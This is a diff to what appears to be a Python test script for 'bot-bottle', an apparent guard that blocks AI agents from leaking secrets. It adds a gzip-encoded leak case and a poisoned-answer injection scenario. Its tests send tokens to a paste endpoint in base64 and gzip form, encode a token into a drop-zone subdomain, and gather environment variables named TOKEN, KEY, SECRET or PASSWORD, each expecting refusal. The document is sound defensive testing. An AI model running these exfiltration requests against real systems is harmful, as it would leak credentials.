@@ -5,6 +5,7 @@ a scenario, whether it went as bot-bottle promises, and the evidence.
 """
 
 import base64
+import gzip
 import json
 import os
 import secrets
@@ -131,7 +132,7 @@ def token_is_nowhere():
 
 
 def must_be_refused(name, rule, url, *options, sent=None):
-    """A request that a detector must stop."""
+    """A request that a detector must stop, or its answer."""
     status, body = curl(url, *options, sent=sent)
     try:
         told = json.loads(body)
@@ -150,10 +151,15 @@ def exfiltration():
     made_up = "gh" + "p_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))
     must_be_refused("POST of a token", "secret", paste, sent=json.dumps({"note": made_up}).encode())
     must_be_refused("known secret, base64", "secret", paste, sent=b"log=" + base64.b64encode(b"found: " + token))
+    must_be_refused("known secret, gzip", "secret", paste, "-H", "Content-Encoding: gzip", sent=gzip.compress(b"log=" + token))
     must_be_refused("known secret, subdomain", "secret", f"https://{token.decode().lower()}.{CONFIG['drop_zone']}/")
     names = ("TOKEN", "KEY", "SECRET", "PASSWORD")
     stolen = {name: value for name, value in os.environ.items() if name.endswith(names)}
     must_be_refused("canary from the environment", "canary", paste, sent=json.dumps(stolen).encode())
+
+
+def injection():
+    must_be_refused("instructions in an answer", "injection", f"https://{CONFIG['host']}/api/poisoned")
 
 
 def live_route():
@@ -169,7 +175,7 @@ def live_route():
 
 
 if __name__ == "__main__":
-    for scenario in (allowed, refused, ways_out, token_is_nowhere, exfiltration, live_route):
+    for scenario in (allowed, refused, ways_out, token_is_nowhere, exfiltration, injection, live_route):
         try:
             scenario()
         except Exception as error:  # A scenario that breaks has not shown what it should.
